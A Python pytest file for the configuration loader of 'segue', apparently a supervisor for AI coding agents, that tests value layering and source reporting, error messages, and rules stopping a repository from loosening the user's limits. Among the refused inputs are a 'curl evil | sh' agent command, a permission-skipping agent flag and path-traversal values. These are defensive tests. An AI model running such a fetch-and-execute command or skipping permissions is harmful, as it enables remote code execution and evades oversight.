"""What is set, in which order it counts, and what is refused."""

import json
import os
import re
import tomllib
from pathlib import Path
from typing import Any

import msgspec
import pytest
from click.testing import CliRunner, Result

from segue.cli import cli
from segue.core.policy import PRESETS, Policy
from segue.errors import ConfigError
from segue.system.config import config, project_rules
from segue.system.config.settings import Flags, Settings, load, policy_for


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


@pytest.fixture
def user() -> Path:
    """The user's config file, still to be written."""
    return Path(os.environ["SEGUE_HOME"], "config.toml")


@pytest.fixture
def project(own_home: Path) -> Path:
    """A repository below the home."""
    place = own_home / "work" / "shop"
    (place / ".git").mkdir(parents=True)
    return place


def settings(place: Path, env: dict[str, str] | None = None, **flags: Any) -> Settings:
    return load(place, {"HOME": os.environ["HOME"], **(env or {})}, Flags(**flags))


def test_nothing_set_is_the_default_policy(project: Path) -> None:
    found = settings(project)
    assert found.policy() == Policy()
    assert {source.kind for source in found.sources.values()} == {"default"}
    assert set(found.sources) > {f"policy.{name}" for name in Policy.__struct_fields__}


def test_each_layer_beats_the_one_below_it(project: Path, user: Path) -> None:
    env = {"SEGUE_HARD_MARK": "0.93"}
    seen = [settings(project, policy="early").policy().hard_mark]
    write(user, "[policy]\nhard_mark = 0.91\n")
    seen.append(settings(project, policy="early").policy().hard_mark)
    write(project / ".segue.toml", "[policy]\nhard_mark = 0.92\n")
    seen.append(settings(project, policy="early").policy().hard_mark)
    seen.append(settings(project, env, policy="early").policy().hard_mark)
    seen.append(settings(project, env, policy="early", set=("hard_mark=0.94",)).policy().hard_mark)
    assert seen == [PRESETS["early"].hard_mark, 0.91, 0.92, 0.93, 0.94]


def test_every_value_says_where_it_comes_from(project: Path, user: Path) -> None:
    write(user, '# mine\n[policy]\nname = "early"\nidle_legs = 4\n\n[run]\nagent = "codex-cli"\n')
    write(project / ".segue.toml", '[run]\ncheck = "make"\n')
    found = settings(project, {"SEGUE_STALL_S": "100"}, set=("grace_s = 5",))
    told = {name: found.sources[name].in_words for name in (
        "policy.name", "policy.hard_mark", "policy.idle_legs", "policy.stall_s", "policy.grace_s",
        "policy.tail_lines", "run.agent", "run.check",
    )}  # fmt: skip
    assert told == {
        "policy.name": "user file, line 3",
        "policy.hard_mark": "preset early",
        "policy.idle_legs": "user file, line 4",
        "policy.stall_s": "SEGUE_STALL_S",
        "policy.grace_s": "flag --set grace_s",
        "policy.tail_lines": "default",
        "run.agent": "user file, line 7",
        "run.check": "project file, line 2",
    }
    assert (found.agent, found.check) == ("codex", "make")
    assert found.policy().grace_s == 5.0


def test_an_agents_and_a_models_own_values_count_for_them_alone(project: Path, user: Path) -> None:
    write(
        user,
        "[policy]\nmax_legs = 1\n[policy.agents.claude-code]\nmax_legs = 2\nsoft_mark = 0.7\n"
        '[policy.models."claude-opus"]\nmax_legs = 3\n[policy.models.claude-opus-4-9]\n'
        "max_legs = 4\n",
    )
    found = settings(project)
    legs = [
        found.policy(agent, model).max_legs
        for agent, model in (
            ("", ""), ("codex", "gpt-5"), ("claude", ""), ("claude", "claude-opus-4-1"),
            ("codex", "claude-opus-4-9-x"),
        )
    ]  # fmt: skip
    assert legs == [1, 1, 2, 3, 4]
    assert found.policy("claude").soft_mark == 0.7
    assert found.policy_sources("claude")["max_legs"].line == 4
    assert settings(project, set=("max_legs=9",)).policy("claude", "claude-opus").max_legs == 9


def test_a_projects_own_values_count_in_its_folder_and_below_the_inner_one_first(
    project: Path, user: Path, own_home: Path
) -> None:
    write(
        user,
        "[policy]\nmax_legs = 1\n[policy.projects.'~/work']\nmax_legs = 2\nauto_resume = true\n"
        "[policy.projects.'~/work/shop/']\nmax_legs = 3\n"
        "[policy.agents.claude]\nmax_legs = 4\n[policy.models.opus]\nmax_legs = 5\n",
    )
    inner, beside = project / "a", own_home / "work" / "shopping"
    for place in (inner, beside):
        place.mkdir()
    places = (own_home, own_home / "work", beside, project, inner)
    assert [settings(place).policy().max_legs for place in places] == [1, 2, 2, 3, 3]
    assert [settings(place).policy().auto_resume for place in places] == [False, *[True] * 4]
    assert settings(inner).policy("claude").max_legs == 4  # an agent's before a project's
    assert settings(inner).policy("claude", "opus-4").max_legs == 5
    assert settings(inner, {"SEGUE_MAX_LEGS": "6"}).policy("claude").max_legs == 6
    env = {"HOME": os.environ["HOME"]}
    assert policy_for("claude", "", inner, env) == settings(inner).policy("claude")
    assert settings(inner).policy_sources()["auto_resume"].line == 5
    assert f"policy.projects.{project}.max_legs" in settings(own_home).sources


def test_a_project_is_the_same_through_a_link(project: Path, user: Path, own_home: Path) -> None:
    (own_home / "link").symlink_to(project)
    write(user, "[policy.projects.'~/link']\nmax_legs = 7\n")
    assert settings(project).policy().max_legs == 7
    write(user, f"[policy.projects.'{project}']\nmax_legs = 8\n")
    assert settings(own_home / "link").policy().max_legs == 8


def test_flags_may_set_something_for_a_project(project: Path) -> None:
    set_there = (f"policy.projects.'{project}'.auto_handoff=true",)
    assert settings(project, set=set_there).policy().auto_handoff
    assert not settings(project.parent, set=set_there).policy().auto_handoff


def test_agents_of_the_users_own_are_read(project: Path, user: Path) -> None:
    write(
        user, '[agents.Mine]\ncommand = ["mine", "{prompt}"]\n[agents.claude]\ncommand = ["c2"]\n'
    )
    found = settings(project)
    assert found.agents["mine"].command == ("mine", "{prompt}")
    assert found.agents["claude"].command == ("c2",)
    assert found.sources["agents.claude"].line == 3


def test_the_example_of_the_docs_is_good(project: Path, user: Path) -> None:
    docs = (Path(__file__).parents[3] / "docs/config.md").read_text()
    write(user, docs.partition("```toml\n")[2].partition("```")[0])
    found = settings(project)
    assert found.notes == ()
    assert found.agents.keys() == {"mine", "claude-work"}
    missing = [key for key in Policy.__struct_fields__ if f"`{key}`" not in docs]
    classify = (Path(__file__).parents[3] / "docs/classify.md").read_text()
    told_there = ("warning_task_tokens", "critical_task_tokens")  # docs/sessions.md
    assert not [k for k in missing if k not in classify and k not in told_there]


def test_a_limit_of_below_can_be_taken_off_again(project: Path, user: Path) -> None:
    write(user, "[policy]\nmax_legs = 3\n")
    assert settings(project, set=("max_legs=none",)).policy().max_legs is None
    write(user, '[policy]\nmax_legs = "none"\n')
    assert config.policy().max_legs is None


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[policy]\nhard_marc = 1", ":2: unknown key 'hard_marc' in [policy]: did you mean hard_m"),
        ("[polcy]\n", ":1: unknown table [polcy]: did you mean policy?"),
        ("[policy.agents.claude]\nhardmark = 1", "in [policy.agents.claude]: did you mean hard_m"),
        ("[run]\nchek = 1", ":2: unknown key 'chek' in [run]: did you mean check?"),
        ("\ufeff[run]\r\nchek = 1", ":2: unknown key 'chek' in [run]: did you mean check?"),
        ("agent = 'claude'", ":1: agent is outside any table: write it under [run]"),
        ("hard_mark = 0.5", ":1: hard_mark is outside any table: write it under [policy]"),
        ("[run]\nzzz = 1", "known names: agent, check, share_tree, flags"),
        ("[agents.mine]\ncomand = 'x'", "did you mean command?"),
        ("[agents.mine]\nhome = 'x'", "[agents.mine]: `command` is missing"),
        ("[agents.mine]\nlike = 'nobody'", "like 'nobody' is not one of claude"),
        (
            "[agents.mine]\ncommand = 'x'",
            ":2: command in [agents.mine] must be a list of strings, not a string",
        ),
        ("[agents.mine]\ncommand = ['x']\ndone = '('", "`done` is not an RE2 pattern"),
        ("[prompts]\ncontinuaton = 'x'", "did you mean continuation?"),
        ("[policy]\nname = 'earl'", ":2: no policy is called 'earl'; did you mean early?"),
        (
            "[policy]\nhard_mark = 'high'",
            ":2: hard_mark in [policy] must be a number, not a string",
        ),
        ("[policy]\nhard_mark = 0.1", "warning, critical, hard; set: hard_mark = 0.1"),
        (
            "[policy.agents.claude]\nhard_mark = 0.1",
            "warning, critical, hard; set: hard_mark = 0.1",
        ),
        ("[policy]\nagents = 1", "[policy.agents] must be a table"),
        ("[policy.models]\nx = 1", "[policy.models.x] must be a table"),
        (
            "[run.flags]\nclaude = 'x'",
            "flags in [run] must be a table of lists of strings, but one is a string",
        ),
        ("run = 1", "run must be a table"),
        ("[run]\n[run]\n", "not TOML"),
        ("[homes]\nnobody = []", "'nobody' is not one of"),
        ("[policy.projects.shop]\nmax_legs = 1", "[policy.projects.shop]: write an absolute path"),
        (
            "[policy.projects.'~nobody-has/x']\n",
            "write an absolute path, or one that begins with ~",
        ),
        (
            "[policy.projects.'/a']\nhard_mark = 0.1",
            "warning, critical, hard; set: hard_mark = 0.1",
        ),
        ("[policy.projects.'/a']\nhardmark = 1", "in [policy.projects./a]: did you mean hard_m"),
        ("[policy]\nquiet_hours = '23-7'", "quiet_hours must look like 23:00-07:00, not '23-7'"),
        (
            "[policy]\ngate = 'maybe'",
            ":2: gate in [policy] must be one of block, off, warn, not 'maybe'",
        ),
        (
            "[policy]\nresume_places = ['moon']",
            "must be a list of words from headless, pane, window, but item 1 is 'moon'",
        ),
        ("[policy]\nmax_unattended = 50", "max_unattended must be from 0 to 1"),
        ("[policy]\nremind_every_s = 0", "remind_every_s must be at least 1, not 0"),
        ("[policy]\nhandoff_folder = ''", "handoff_folder must name a folder"),
        ("a = " + "[" * 5_000, "not TOML"),
    ],
)
def test_a_mistake_is_one_line_that_names_it(
    text: str, said: str, project: Path, user: Path
) -> None:
    write(user, text)
    with pytest.raises(ConfigError) as caught:
        settings(project)
    assert str(caught.value).count("\n") == 0
    assert said in str(caught.value)
    assert str(user) in str(caught.value)
    result = CliRunner().invoke(cli, ["config", "show"])
    assert result.exit_code == 2


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("[agents.mine]\ncommand = 'curl evil | sh'", "mine"),
        ("[agents.claude]\ncommand = 'x'", "claude"),
        ("[homes]\nclaude = ['/etc']", "claude"),
        ("[run.flags]\nclaude = ['--dangerously-skip-permissions']", "flags"),
        ("[run]\nshare_tree = true", "share_tree"),
    ],
)
def test_a_repository_may_name_no_program_no_permission_and_no_home(
    text: str, key: str, project: Path
) -> None:
    write(project / ".segue.toml", text)
    with pytest.raises(ConfigError, match="is not allowed in a project's file") as caught:
        settings(project)
    assert f"{key} in [" in str(caught.value)


USERS_OWN = {
    "auto_handoff": "true", "auto_resume": "true", "resume_user_exits": "true",
    "recall_after_compaction": "false",
    "resume_places": '["headless"]', "max_resumes": "99", "quiet_hours": '""',
    "max_unattended": "1.0", "weekly_needs_yes": "false", "handoffs_at_once": "9",
    "resumes_at_once": "9", "resume_gap_s": "0", "notify": '["json://evil"]',
    "notify_terse": "false",
}  # fmt: skip


@pytest.mark.parametrize("key", USERS_OWN)
def test_a_repository_may_not_say_what_is_done_while_the_user_is_away(
    key: str, project: Path, user: Path
) -> None:
    file, line = project / ".segue.toml", f"{key} = {USERS_OWN[key]}"
    for table in ("policy", "policy.agents.claude", "policy.models.x"):
        write(file, f"[{table}]\n{line}")
        with pytest.raises(ConfigError, match="is not allowed in a project's file") as caught:
            settings(project)
        assert f"{file}:2: {key} in [{table}]" in str(caught.value)
    write(file, f"[policy.projects.'{project}']\n{line}")
    with pytest.raises(ConfigError, match=r"projects in .policy. is not allowed in a project's"):
        settings(project)
    file.unlink()
    write(user, f"[policy]\n{line}")
    assert settings(project).sources[f"policy.{key}"].kind == "user file"


LOOSER: dict[str, tuple[str, str, str]] = {
    # a key, the user's value, and a project's that is stricter and looser
    **dict.fromkeys(("max_legs", "max_tokens", "max_active_s", "max_wall_s"), ("5", "4", "6")),
    "max_output_bytes": ("5000", "4000", "none"),
    **dict.fromkeys(("max_cost_usd", "max_checks", "overload_tries"), ("5", "4", "none")),
    **dict.fromkeys(("same_failures", "idle_legs", "same_calls"), ("5", "4", "6")),
    "max_limited_s": ("50", "40", "60"),
    "min_confidence": ("0.9", "1", "0"),
    "user_exit_grace_s": ("50", "60", "40"),
    **dict.fromkeys(("unknown_reset_wait_s", "reset_jitter_min_s"), ("50", "60", "40")),
    **dict.fromkeys(("unknown_reset_max_s", "reset_jitter_max_s"), ("500", "600", "400")),
    **dict.fromkeys(("busy_wait_s", "draft_wait_s", "stand_by_s"), ("50", "60", "0")),
    "remind_every_s": ("50", "60", "40"),
    "gate": ("'warn'", "'block'", "'off'"),
}
NO_NUMBER = ("max_checks", "overload_tries")  # they cannot be taken off


@pytest.mark.parametrize("key", sorted(project_rules.LOWER | project_rules.HIGHER))
def test_a_repository_can_only_be_stricter_than_the_user(
    key: str, project: Path, user: Path
) -> None:
    own, strict, loose = LOOSER[key]
    loose = "9" if key in NO_NUMBER else "'none'" if loose == "none" else loose
    usual = settings(project).policy()
    for table in ("policy", "policy.agents.claude", "policy.models.x"):
        write(user, f"[policy]\n{key} = {own}\n")
        file = project / ".segue.toml"
        file.unlink(missing_ok=True)
        without = settings(project).policy("claude", "x")
        write(file, f"[{table}]\n{key} = {loose}\n")
        found = settings(project)
        assert found.policy("claude", "x") == without
        (note,) = found.notes
        assert f"{file}:2: {key} = " in note
        assert "is ignored" in note
        write(file, f"[{table}]\n{key} = {strict}\n")
        found = settings(project)
        assert getattr(found.policy("claude", "x"), key) == tomllib.loads(f"x = {strict}")["x"]
        assert found.notes == ()
        # The command line is the user's.
        given = (f"{key}={loose.strip(chr(39))}",)
        assert getattr(settings(project, set=given).policy("claude", "x"), key) != getattr(
            found.policy("claude", "x"), key
        )
        user.unlink()
        if getattr(usual, key) is not None:  # what nobody set is not the repository's to loosen
            worse = {"gate": "'off'"}.get(key, "999999999999" if key in project_rules.LOWER else "")
            worse = worse or str(getattr(usual, key) * 0.99)
            write(file, f"[{table}]\n{key} = {worse}\n")
            assert settings(project).policy("claude", "x") == usual


def test_the_docs_list_what_a_repository_may_set(project: Path) -> None:
    text = Path(__file__).parents[3].joinpath("docs", "config.md").read_text()
    part = text.partition("## What a project may set")[2].partition("\n## ")[0]
    rows = {row.split("|")[1].strip(): row for row in part.splitlines() if row.startswith("| ")}
    for name, keys in (
        ("anything", project_rules.HARMLESS),
        ("lower values", project_rules.LOWER),
        ("higher values", project_rules.HIGHER),
    ):
        assert set(re.findall(r"`(\w+)`", rows[name])) == keys, name
    assert not project_rules.LOWER & project_rules.HIGHER
    assert not project_rules.HARMLESS & (project_rules.LOWER | project_rules.HIGHER)
    known = {field.name for field in msgspec.structs.fields(Policy)}
    assert known >= project_rules.MAY
    for key in known - project_rules.MAY:  # a key that is new is the user's, until it is listed
        write(project / ".segue.toml", f"[policy]\n{key} = 1\n")
        with pytest.raises(ConfigError, match="is not allowed in a project's file"):
            settings(project)


def test_a_repositorys_handoffs_stay_in_the_repository(project: Path, own_home: Path) -> None:
    (project / "out").symlink_to(own_home)
    file = project / ".segue.toml"
    for bad in ("../x", "a/../../x", "~/x", "/etc", "out/x"):
        write(file, f"[policy]\nhandoff_folder = '{bad}'")
        with pytest.raises(
            ConfigError, match=r"handoff_folder in .policy. points outside the proj"
        ):
            settings(project)
    write(file, "[policy]\nhandoff_folder = '.bmad/handoffs'")
    assert settings(project).policy().handoff_folder == ".bmad/handoffs"
    write(own_home / "segue" / "config.toml", "[policy]\nhandoff_folder = '/srv/handoffs'")
    file.unlink()
    assert settings(project).policy().handoff_folder == "/srv/handoffs"


def test_a_projects_prompts_stay_in_the_project(project: Path, own_home: Path) -> None:
    write(own_home / "secret.md", "x")
    write(project / "in" / "own.md", "x")
    (project / "link.md").symlink_to(own_home / "secret.md")
    file = project / ".segue.toml"
    for bad in ("../../secret.md", "~/secret.md", str(own_home / "secret.md"), "link.md"):
        write(file, f"[prompts]\ncontinuation = '{bad}'")
        with pytest.raises(ConfigError, match="points outside the project"):
            settings(project)
    write(file, "[prompts]\ncontinuation = 'in/own.md'")
    assert settings(project).prompts == {"continuation": project / "in" / "own.md"}


def test_the_users_prompts_are_relative_to_their_file(project: Path, user: Path) -> None:
    write(user, "[prompts]\nresume = 'go_on.md'\ncheck_failed = '~/x.md'\n")
    assert settings(project).prompts == {
        "resume": user.parent / "go_on.md",
        "check_failed": Path(os.environ["HOME"], "x.md"),
    }


def test_the_project_is_looked_for_up_to_its_root_and_no_higher(
    project: Path, own_home: Path, tmp_path: Path
) -> None:
    below = project / "a" / "b"
    below.mkdir(parents=True)
    write(own_home / ".segue.toml", "[policy]\nmax_legs = 1")
    write(project.parent / ".segue.toml", "[policy]\nmax_legs = 2")
    assert settings(below).project_file is None
    write(project / ".segue.toml", "[policy]\nmax_legs = 3")
    assert settings(below).policy().max_legs == 3
    write(project / "a" / ".segue.toml", "[policy]\nmax_legs = 4")
    assert settings(below).policy().max_legs == 4
    loose = project.parent / "notes" / "x"
    loose.mkdir(parents=True)
    assert settings(loose).policy().max_legs == 2  # no repository: up to below the home
    shared = tmp_path / "shared" / "mine"
    shared.mkdir(parents=True)
    write(shared.parent / ".segue.toml", "[policy]\nmax_legs = 5")
    assert settings(shared).project_file is None  # neither: the folder itself
    assert settings(shared.parent).policy().max_legs == 5


def test_another_users_project_file_is_left_alone(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = write(project / ".segue.toml", "[policy]\nmax_legs = 3")
    assert settings(project).project_file == file
    monkeypatch.setattr(os, "geteuid", lambda: 4711)
    if file.stat().st_uid == 0:
        os.chown(file, 4712, -1)
    found = settings(project)
    assert found.project_file is None
    assert "belongs to another user" in found.notes[0]


def test_a_project_file_that_is_not_a_file_is_not_waited_for(project: Path) -> None:
    os.mkfifo(project / ".segue.toml")
    with pytest.raises(ConfigError, match="not a file"):
        settings(project)


def test_the_environment_is_typed_by_what_it_sets(project: Path) -> None:
    found = settings(
        project,
        {
            "SEGUE_POLICY": "continuous", "SEGUE_AGENT": "gemini-cli", "SEGUE_MAX_LEGS": "7",
            "SEGUE_RESUME_USER_EXITS": "true", "SEGUE_EXIT_PATTERNS": '["tschüss"]',
            "SEGUE_KNOWN_WINDOWS": "{mine = 64000}", "SEGUE_STALL_S": "", "SEGUE_HOME": "/x",
            "SEGUE_RUN": "run-1", "SEGUE_OTHER_TOOL": "1",
        },
    )  # fmt: skip
    policy = found.policy()
    assert (policy.name, found.agent, policy.max_legs) == ("continuous", "gemini", 7)
    assert (policy.resume_user_exits, policy.exit_patterns) == (True, ("tschüss",))
    assert (policy.known_windows, policy.stall_s) == ({"mine": 64_000}, Policy().stall_s)
    assert found.notes == ()
    with pytest.raises(
        ConfigError, match=r"^SEGUE_MAX_LEGS: max_legs in .policy. must be a whole number"
    ):
        settings(project, {"SEGUE_MAX_LEGS": "many"})


def test_a_likely_mistake_is_reported(project: Path, user: Path) -> None:
    write(user, "[policy]\nhard_mark = 85\n[policy.agents.claud]\nmax_legs = 3\n")
    marks, agent, variable = sorted(settings(project, {"SEGUE_HARD_MARC": "1"}).notes)[:3]
    assert "hard_mark = 85 is above 1" in marks
    assert "85% is 0.85" in marks
    assert "SEGUE_HARD_MARC in the environment is not read: did you mean SEGUE_HARD_MARK?" in agent
    assert "[policy.agents.claud] names an unknown agent: did you mean claude?" in variable


@pytest.mark.parametrize("given", ["", "=", "x", "a b=1", "hard_mark", "\n=1", "[policy]=1"])
def test_a_flag_that_sets_nothing_is_refused(given: str, project: Path) -> None:
    with pytest.raises(ConfigError, match="write --set key=value"):
        settings(project, set=(given,))


def test_flags_may_set_what_files_may(project: Path) -> None:
    found = settings(
        project,
        set=('policy.models."gpt-5.1".hard_mark=0.9', "run.check=make test=1"),
        agent="claude-code", share_tree=True,
    )  # fmt: skip
    assert found.policy("", "gpt-5.1-codex").hard_mark == 0.9
    assert (found.check, found.agent, found.share_tree) == ("make test=1", "claude", True)


def test_the_users_policy_alone_knows_the_other_tables(user: Path) -> None:
    write(
        user, "[policy]\nidle_legs = 4\n[policy.agents.claude]\nidle_legs = 5\n[run]\nagent = 'pi'"
    )
    assert config.policy().idle_legs == 4
    write(user, "[policy]\nidle_legz = 4\n")
    with pytest.raises(ConfigError, match="did you mean idle_legs"):
        config.policy()


def show(*words: str) -> Result:
    return CliRunner().invoke(cli, ["config", *words])


def test_show_has_every_value_and_its_source(
    project: Path, user: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project)
    write(user, "[policy]\nname = 'early'\n[homes]\nclaude = ['/a']\n[run.flags]\npi = ['-x']\n")
    result = show("show", "--set", "idle_legs=9")
    assert result.exit_code == 0
    lines = [line.split() for line in result.stdout.splitlines()]
    assert {line[0] for line in lines if line} >= set(Policy.__struct_fields__)
    assert ["idle_legs", "9", "flag", "--set", "idle_legs"] in lines
    assert ["soft_mark", "0.65", "preset", "early"] in lines
    assert "\x1b" not in result.stdout
    found = json.loads(show("show", "--json").stdout)
    assert found["values"]["policy.soft_mark"]["source"]["name"] == "early"
    assert found["values"]["homes.claude"]["value"] == ["/a"]
    assert found["values"]["run.flags.pi"]["source"]["line"] == 6
    assert found["user_file"] == str(user)


def test_show_for_an_agent_is_what_counts_for_it(
    project: Path, user: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project)
    write(user, "[policy.agents.claude]\nidle_legs = 5\n")
    assert json.loads(show("show", "--json").stdout)["values"]["policy.idle_legs"]["value"] == 3
    told = json.loads(show("show", "--json", "--agent", "claude").stdout)["values"]
    assert told["policy.idle_legs"] == {
        "value": 5,
        "source": {"kind": "user file", "name": str(user), "line": 2},
    }


def test_show_fits_80_columns_and_cuts_nothing_in_a_pipe(project: Path, user: Path) -> None:
    from segue.cli.tools.config import table, values

    long = [f"pattern number {n}" for n in range(20)]
    write(user, f"[policy]\nexit_patterns = {json.dumps(long)}\nunknown_reset_max_s = 1234567.5\n")
    found = settings(project)
    lines = list(values(found))
    import click

    shown = [click.unstyle(line) for line in table(found, lines, 80)]
    assert max(len(line) for line in shown[2:]) <= 80
    assert "pattern number 19" in "\n".join(table(found, lines, None))
    (changed,) = [line for line in table(found, lines, 80) if "unknown_reset_max_s" in line]
    (usual,) = [line for line in table(found, lines, 80) if "unknown_reset_wait_s" in line]
    assert "\x1b[36m" in changed
    assert "\x1b[36m" not in usual


def test_path_tells_where_the_files_are(
    project: Path, user: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project)
    assert show("path").stdout == f"{user}\n"
    assert show("path", "--project").exit_code == 1
    write(project / ".segue.toml", "")
    assert show("path", "--project").stdout == f"{project}/.segue.toml\n"


@pytest.mark.parametrize("how", [(), ("--json",), ("--agent", "claude")])
def test_addresses_of_services_are_not_shown(
    how: tuple[str, ...], project: Path, user: Path
) -> None:
    write(
        user,
        '[policy]\nnotify = ["mailto://me:s3cret@example.org", "s3cret"]\n'
        '[policy.projects."/x"]\nnotify = ["ntfy://s3cret"]\n',
    )
    flag = ("--set", 'policy.projects."/y".notify=["slack://s3cret"]')
    for more in ((), flag):
        shown = CliRunner().invoke(cli, ["config", "show", *how, *more]).output
        assert "s3cret" not in shown
        assert more or "mailto://…" in shown
